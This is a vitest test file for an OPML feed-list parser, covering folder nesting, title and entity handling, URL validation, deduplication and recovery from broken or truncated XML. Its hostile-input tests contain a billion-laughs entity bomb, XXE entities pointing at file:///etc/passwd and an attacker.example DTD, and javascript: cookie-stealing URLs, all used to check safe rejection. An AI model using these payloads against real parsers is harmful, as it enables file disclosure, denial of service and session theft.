import { describe, expect, it } from 'vitest';
import { OpmlError } from '../../../electron/core/opml/OpmlError.ts';
import { parseOpml } from '../../../electron/core/opml/parseOpml.ts';

function opml(body: string, head = ''): string {
  return `<?xml version="1.0" encoding="UTF-8"?>\n<opml version="2.0">\n<head>${head}</head>\n<body>\n${body}\n</body>\n</opml>\n`;
}

function rejection(input: unknown): OpmlError {
  try {
    parseOpml(input as string);
  } catch (error) {
    if (error instanceof OpmlError) return error;
    throw error;
  }
  throw new Error('expected parseOpml to throw an OpmlError');
}

describe('parseOpml: feeds and folders', () => {
  it('reads folders three deep, and feeds between them', () => {
    const document = parseOpml(
      opml(`
<outline text="News">
  <outline text="Energy">
    <outline text="Oil">
      <outline type="rss" text="Brent daily" xmlUrl="https://oil.example/feed" htmlUrl="https://oil.example/"/>
    </outline>
    <outline type="rss" text="Grid" xmlUrl="https://grid.example/rss"/>
  </outline>
  <outline type="rss" text="Wire" xmlUrl="https://wire.example/atom"/>
</outline>
<outline type="rss" text="Top" xmlUrl="https://top.example/feed"/>`),
    );
    expect(document.recovered).toBe(false);
    expect(document.problems).toEqual([]);
    expect(document.outlines).toEqual([
      {
        url: 'https://oil.example/feed',
        title: 'Brent daily',
        siteUrl: 'https://oil.example/',
        folder: 'News / Energy / Oil',
      },
      { url: 'https://grid.example/rss', title: 'Grid', siteUrl: null, folder: 'News / Energy' },
      { url: 'https://wire.example/atom', title: 'Wire', siteUrl: null, folder: 'News' },
      { url: 'https://top.example/feed', title: 'Top', siteUrl: null, folder: null },
    ]);
  });

  it('takes the title from title, else text, else null, with whitespace collapsed', () => {
    const document = parseOpml(
      opml(`
<outline title="  The   Title " text="The text" xmlUrl="https://a.example/feed"/>
<outline text="Only text" xmlUrl="https://b.example/feed"/>
<outline title=" " text="Text when title is blank" xmlUrl="https://c.example/feed"/>
<outline xmlUrl="https://d.example/feed"/>
<outline title="" text="" xmlUrl="https://e.example/feed"/>`),
    );
    expect(document.outlines.map((entry) => entry.title)).toEqual([
      'The Title',
      'Only text',
      'Text when title is blank',
      null,
      null,
    ]);
  });

  it('reads the head title, and xmlUrl in any capitalisation', () => {
    const document = parseOpml(
      opml(
        `<outline text="a" xmlurl="https://a.example/feed"/><outline text="b" xmlURL="https://b.example/feed"/><outline text="c" XMLURL="https://c.example/feed"/>`,
        '<title> My  list </title>',
      ),
    );
    expect(document.title).toBe('My list');
    expect(document.outlines.map((entry) => entry.url)).toEqual([
      'https://a.example/feed',
      'https://b.example/feed',
      'https://c.example/feed',
    ]);
  });

  it('decodes entities and character references in attributes and the title', () => {
    const document = parseOpml(
      opml(
        `<outline text="Tom &amp; Jerry &#8212; &#x65E5;&#26412; &quot;q&quot; &lt;b&gt; &apos;s" xmlUrl="https://a.example/feed?x=1&amp;y=2"/>`,
        '<title><![CDATA[R&D <feeds>]]></title>',
      ),
    );
    expect(document.title).toBe('R&D <feeds>');
    expect(document.outlines[0]).toMatchObject({
      title: `Tom & Jerry — 日本 "q" <b> 's`,
      url: 'https://a.example/feed?x=1&y=2',
    });
  });

  it('uses url as the feed URL for rss and atom outlines, and for link outlines that point at a feed', () => {
    const document = parseOpml(
      opml(`
<outline type="rss" text="rss" url="https://a.example/feed"/>
<outline type="ATOM" text="atom" url="https://b.example/atom.xml"/>
<outline type="link" text="feed link" url="https://c.example/index.rss"/>
<outline type="link" text="WordPress" xmlUrl="https://d.example/feed"/>
<outline type="link" text="a page" url="https://e.example/about"/>
<outline type="link" text="a list" url="https://f.example/list.opml"/>
<outline type="include" text="included" url="https://g.example/more.opml"/>
<outline type="source" text="Liferea list" xmlUrl="https://h.example/list"/>`),
    );
    expect(document.outlines.map((entry) => entry.url)).toEqual([
      'https://a.example/feed',
      'https://b.example/atom.xml',
      'https://c.example/index.rss',
      'https://d.example/feed',
    ]);
    expect(document.problems).toEqual([
      'line 10: skipped "a page": it links to a web page, not a feed ("https://e.example/about")',
      'line 11: skipped "a list": it links to another subscription list ("https://f.example/list.opml")',
      'line 12: skipped "included": it refers to another subscription list ("https://g.example/more.opml"), which is not imported',
      'line 13: skipped "Liferea list": it refers to another subscription list ("https://h.example/list"), which is not imported',
    ]);
  });

  it('reports outlines that look like feeds but have no usable feed URL', () => {
    const document = parseOpml(
      opml(`
<outline text="site only" htmlUrl="https://a.example/"/>
<outline text="empty" xmlUrl=" "/>
<outline text="Folder">
  <outline text="kept" xmlUrl="https://b.example/feed" htmlUrl="javascript:alert(1)"/>
</outline>
<outline text="just a note"/>`),
    );
    expect(document.outlines).toEqual([
      { url: 'https://b.example/feed', title: 'kept', siteUrl: null, folder: 'Folder' },
    ]);
    expect(document.problems).toEqual([
      'line 6: skipped "site only": it has a site URL ("https://a.example/") but no feed URL',
      'line 7: skipped "empty": its feed URL (xmlUrl) is empty',
      'line 9: ignored the site URL of "kept": "javascript:alert(1)" is not an absolute http or https URL',
    ]);
  });
});

describe('parseOpml: URLs', () => {
  it('accepts only http and https, rewriting feed: URLs, and says why for the rest', () => {
    const document = parseOpml(
      opml(`
<outline text="js" xmlUrl="javascript:alert(document.cookie)"/>
<outline text="local" xmlUrl="file:///etc/passwd"/>
<outline text="data" xmlUrl="data:text/xml,&lt;rss/&gt;"/>
<outline text="relative" xmlUrl="/feed.xml"/>
<outline text="bare host" xmlUrl="example.com/feed"/>
<outline text="no host" xmlUrl="http://"/>
<outline text="feed scheme" xmlUrl="feed://a.example/rss"/>
<outline text="feed over https" xmlUrl="feed:https://b.example/rss"/>
<outline text="padded" xmlUrl="  https://c.example/rss&#10;"/>`),
    );
    expect(document.outlines.map((entry) => entry.url)).toEqual([
      'http://a.example/rss',
      'https://b.example/rss',
      'https://c.example/rss',
    ]);
    expect(document.problems).toEqual([
      'line 6: skipped "js": the feed URL "javascript:alert(document.cookie)" uses the unsupported scheme "javascript:" (only http and https are supported)',
      'line 7: skipped "local": the feed URL "file:///etc/passwd" uses the unsupported scheme "file:" (only http and https are supported)',
      'line 8: skipped "data": the feed URL "data:text/xml,<rss/>" uses the unsupported scheme "data:" (only http and https are supported)',
      'line 9: skipped "relative": the feed URL "/feed.xml" is not an absolute URL',
      'line 10: skipped "bare host": the feed URL "example.com/feed" is not an absolute URL',
      'line 11: skipped "no host": the feed URL "http://" is not a valid URL',
    ]);
  });

  it('keeps the first of duplicate URLs, ignoring scheme and host case, whitespace and fragments', () => {
    const document = parseOpml(
      opml(`
<outline text="A">
  <outline text="first" xmlUrl="https://example.com/feed"/>
</outline>
<outline text="B">
  <outline text="upper" xmlUrl=" HTTPS://EXAMPLE.com/feed "/>
  <outline text="port" xmlUrl="https://example.com:443/feed#top"/>
  <outline text="other path case" xmlUrl="https://example.com/FEED"/>
</outline>
<outline text="bare host" xmlUrl="http://example.org"/>
<outline text="slash" xmlUrl="http://example.org/"/>`),
    );
    expect(document.outlines).toEqual([
      { url: 'https://example.com/feed', title: 'first', siteUrl: null, folder: 'A' },
      { url: 'https://example.com/FEED', title: 'other path case', siteUrl: null, folder: 'B' },
      { url: 'http://example.org', title: 'bare host', siteUrl: null, folder: null },
    ]);
    expect(document.duplicates).toEqual([
      'line 10: skipped "upper": "HTTPS://EXAMPLE.com/feed" is already listed on line 7 in "A"',
      'line 11: skipped "port": "https://example.com:443/feed#top" is already listed on line 7 in "A"',
      'line 15: skipped "slash": "http://example.org/" is already listed on line 14',
    ]);
    expect(document.problems).toEqual([]);
  });
});

describe('parseOpml: hostile and broken input', () => {
  it('never expands DOCTYPE entities (billion laughs, external entities)', () => {
    const levels = Array.from(
      { length: 9 },
      (_, level) => `<!ENTITY lol${level + 1} "${`&lol${level};`.repeat(10)}">`,
    ).join('\n');
    const text = `<?xml version="1.0"?>
<!DOCTYPE opml [
<!ENTITY lol0 "lol">
${levels}
<!ENTITY secret SYSTEM "file:///etc/passwd">
<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
]>
<opml version="2.0"><head><title>&lol9;</title></head><body>
<outline text="&lol9;&secret;" xmlUrl="https://a.example/feed"/>
</body></opml>`;
    const started = performance.now();
    const document = parseOpml(text);
    expect(performance.now() - started).toBeLessThan(200);
    expect(document.recovered).toBe(false);
    expect(document.title).toBe('&lol9;');
    expect(document.outlines).toEqual([
      { url: 'https://a.example/feed', title: '&lol9;&secret;', siteUrl: null, folder: null },
    ]);
    expect(document.problems[0]).toMatch(
      /^the DOCTYPE declares entities \(lol0, lol1, lol2, lol3, lol4, …\); they were not expanded/,
    );
  });

  it('does not expand entities when the DOCTYPE itself is broken either', () => {
    const text = `<!DOCTYPE opml [<!ENTITY a "${'x'.repeat(1000)}"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>
<opml><body><outline text="&b;&b;" xmlUrl="https://a.example/feed?a=1&b=2"/></body>`;
    const document = parseOpml(text);
    expect(document.recovered).toBe(true);
    expect(document.outlines).toEqual([
      { url: 'https://a.example/feed?a=1&b=2', title: '&b;&b;', siteUrl: null, folder: null },
    ]);
  });

  it('rejects an empty file', () => {
    for (const text of ['', '   \n\t ', '\uFEFF', '\uFEFF  \r\n']) {
      const error = rejection(text);
      expect(error.code).toBe('empty');
      expect(error.message).toBe('opml:parse: the file is empty');
    }
  });

  it('rejects an HTML page, another XML format, plain text and binary data', () => {
    const html = rejection(
      '<!DOCTYPE html>\n<html><head><title>Feeds</title></head><body><p>Subscribe!<br></body></html>',
    );
    expect(html).toMatchObject({ code: 'not-opml', name: 'OpmlError' });
    expect(html.message).toBe(
      'opml:parse: not an OPML file: it is an HTML page (perhaps a site rather than its exported subscription list)',
    );
    expect(rejection('<?xml version="1.0"?><rss version="2.0"><channel/></rss>').message).toBe(
      'opml:parse: not an OPML file: its root element is <rss>, not <opml>',
    );
    expect(rejection('{"feeds": ["https://a.example/feed"]}').message).toBe(
      'opml:parse: not an OPML file: no <opml> or <outline> element in 37 characters starting "{\\"feeds\\": [\\"https://a.example/feed\\"]}"',
    );
    expect(rejection('\u0000\u0001PK\u0003\u0004\u0014\u0000<garbage>').message).toBe(
      'opml:parse: not an OPML file: it looks like binary data',
    );
  });

  it('throws OpmlError, never TypeError, for input that is not text', () => {
    for (const input of [undefined, null, 42, {}, new Uint8Array([60, 111])]) {
      expect(rejection(input).code).toBe('not-opml');
    }
  });

  it('recovers the outlines before the cut in a truncated file, and no half URL', () => {
    const text = opml(`
<outline text="News">
  <outline text="A" xmlUrl="https://a.example/feed"/>
  <outline text="B" xmlUrl="https://b.example/feed" htmlUrl="https://b.example/"/>
  <outline text="C" xmlUrl="https://c.example/feed"/>
</outline>`);
    const cut = text.indexOf('c.example/fe');
    const document = parseOpml(text.slice(0, cut));
    expect(document.recovered).toBe(true);
    expect(document.outlines).toEqual([
      { url: 'https://a.example/feed', title: 'A', siteUrl: null, folder: 'News' },
      { url: 'https://b.example/feed', title: 'B', siteUrl: 'https://b.example/', folder: 'News' },
    ]);
    expect(document.problems).toEqual([
      'the file is not well-formed XML (line 9, column 28: the value of xmlUrl is never closed); it was read tag by tag instead and 2 feeds were recovered in 1 folder — check the list',
      'line 9: the file ends in the middle of a tag, so it looks cut off; everything before the cut was kept',
      'line 9: skipped "C": its xmlUrl value is cut off or lacks its closing quote',
    ]);
  });

  it('never throws anything but OpmlError, and never invents a URL, on any prefix of a list', () => {
    const text = opml(
      `<outline text="News &amp; more"><outline text="A" xmlUrl="https://a.example/feed?x=1&amp;y=2"/><!-- note -->
<outline title='B' xmlUrl='https://b.example/rss'></outline></outline><outline text="C" type="rss" url="https://c.example/atom"/>`,
      '<title>T</title>',
    );
    const urls = new Set(['https://a.example/feed?x=1&y=2', 'https://b.example/rss', 'https://c.example/atom']);
    for (let length = 0; length <= text.length; length += 1) {
      let outlines: readonly { url: string }[] = [];
      try {
        outlines = parseOpml(text.slice(0, length)).outlines;
      } catch (error) {
        expect(error, `prefix of ${length}`).toBeInstanceOf(OpmlError);
      }
      for (const entry of outlines) expect(urls.has(entry.url), `prefix of ${length}: ${entry.url}`).toBe(true);
    }
  });

  it('survives random bytes and markup soup', () => {
    let seed = 12345;
    const random = (): number => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed / 2147483648;
    };
    const pieces = [
      '<',
      '>',
      '"',
      "'",
      '&',
      ';',
      '=',
      '/',
      ' ',
      'outline',
      'opml',
      'xmlUrl',
      'http://x/',
      '<!--',
      '<![CDATA[',
      ']]>',
      '<!DOCTYPE',
      '[',
      ']',
      '&#',
      '\u0000',
      'é',
    ];
    for (let round = 0; round < 2_000; round += 1) {
      const text = Array.from(
        { length: Math.floor(random() * 60) },
        () => pieces[Math.floor(random() * pieces.length)],
      ).join('');
      try {
        const document = parseOpml(text);
        for (const entry of document.outlines) expect(entry.url).toMatch(/^https?:\/\//);
      } catch (error) {
        expect(error, JSON.stringify(text)).toBeInstanceOf(OpmlError);
      }
    }
  });

  it('stays linear on large and pathological input', () => {
    const outlines = Array.from(
      { length: 20_000 },
      (_, index) => `<outline text="Feed ${index}" xmlUrl="https://f${index}.example/feed"/>`,
    );
    let started = performance.now();
    expect(parseOpml(opml(outlines.join('\n'))).outlines).toHaveLength(20_000);
    const strictTime = performance.now() - started;
    started = performance.now();
    expect(parseOpml(opml(outlines.join('\n').replace(/Feed/g, 'A & B'))).outlines).toHaveLength(20_000);
    const recoveredTime = performance.now() - started;
    started = performance.now();
    for (const soup of [
      '<a b="c">'.repeat(100_000),
      '</a'.repeat(200_000),
      '<!x>'.repeat(200_000),
      `<opml>${'<outline text="'.repeat(50_000)}`,
      `<opml><outline text="<a ${'" x="'.repeat(100_000)}`,
    ]) {
      try {
        parseOpml(soup);
      } catch (error) {
        expect(error).toBeInstanceOf(OpmlError);
      }
    }
    const soupTime = performance.now() - started;
    expect(strictTime).toBeLessThan(2_000);
    expect(recoveredTime).toBeLessThan(2_000);
    expect(soupTime).toBeLessThan(4_000);
  });
});

describe('parseOpml: recovery from real-world breakage', () => {
  it('reads unescaped ampersands, quotes inside values and HTML entities', () => {
    const document = parseOpml(
      opml(`
<outline text="Business & Economy" title="Business & Economy">
  <outline text="Газета "Коммерсантъ". Главное" title="Газета "Коммерсантъ". Главное" xmlUrl="https://www.kommersant.ru/RSS/main.xml" type="rss" />
  <outline text="KUSA" xmlUrl="http://rssfeeds.9news.com/kusa/home&x=1" type="rss" />
  <outline text="arch&aelig;ology &nbsp;&eacute;t&eacute; &bogus;" xmlUrl="https://a.example/feed" />
  <outline text="Saket" description="Works at <a href="https://square.com/">Square</a>." xmlUrl="https://saket.me/feed/" type="rss" />
</outline>`),
    );
    expect(document.recovered).toBe(true);
    expect(document.outlines).toEqual([
      {
        url: 'https://www.kommersant.ru/RSS/main.xml',
        title: 'Газета "Коммерсантъ". Главное',
        siteUrl: null,
        folder: 'Business & Economy',
      },
      { url: 'http://rssfeeds.9news.com/kusa/home&x=1', title: 'KUSA', siteUrl: null, folder: 'Business & Economy' },
      { url: 'https://a.example/feed', title: 'archæology été &bogus;', siteUrl: null, folder: 'Business & Economy' },
      { url: 'https://saket.me/feed/', title: 'Saket', siteUrl: null, folder: 'Business & Economy' },
    ]);
    expect(document.problems).toHaveLength(1);
    expect(document.problems[0]).toMatch(
      /^the file is not well-formed XML \(line 6, column 25: an unescaped "&" or a bad reference \(&\)\); .* 4 feeds were recovered in 1 folder/,
    );
  });

  it('reads through missing and stray end tags and pasted-together documents', () => {
    const document = parseOpml(`<opml><head><title>One</title></head><body>
<outline text="F1"><outline text="a" xmlUrl="https://a.example/feed"/></bogus:tag>
<outline text="b" xmlUrl="https://b.example/feed"/></outline>
</body></opml>
<opml><head><title>Two</title></head><body>
<outline text="c" xmlUrl="https://c.example/feed"/>
<outline text="F2"><outline text="d" xmlUrl="https://d.example/feed"/>`);
    expect(document.recovered).toBe(true);
    expect(document.title).toBe('One');
    expect(document.outlines.map((entry) => [entry.url, entry.folder])).toEqual([
      ['https://a.example/feed', 'F1'],
      ['https://b.example/feed', 'F1'],
      ['https://c.example/feed', null],
      ['https://d.example/feed', 'F2'],
    ]);
  });

  it('reports an xmlUrl swallowed by a broken value instead of dropping it silently', () => {
    const document = parseOpml(
      opml(
        `<outline text="broken xmlUrl="https://lost.example/feed" title="t"/>\n<outline text="ok" xmlUrl="https://ok.example/feed?a&b"/>`,
      ),
    );
    expect(document.outlines.map((entry) => entry.url)).toEqual(['https://ok.example/feed?a&b']);
    expect(document.problems).toContain(
      'line 5: an xmlUrl ("https://lost.example/feed") sits in a tag too damaged to read; that feed was not imported',
    );
  });

  it('reads a bare fragment of outlines with no <opml> around it', () => {
    const document = parseOpml(
      '<outline text="a" xmlUrl="https://a.example/feed"/>\n<outline text="b" xmlUrl="https://b.example/feed"/>',
    );
    expect(document.recovered).toBe(true);
    expect(document.outlines).toHaveLength(2);
  });

  it('reads a well-formed list with no feeds as an empty list, not an error', () => {
    const document = parseOpml('<opml version="1.0"><head/><body/></opml>');
    expect(document).toEqual({
      title: null,
      outlines: [],
      problems: ['the list contains no feeds'],
      duplicates: [],
      recovered: false,
    });
  });
});
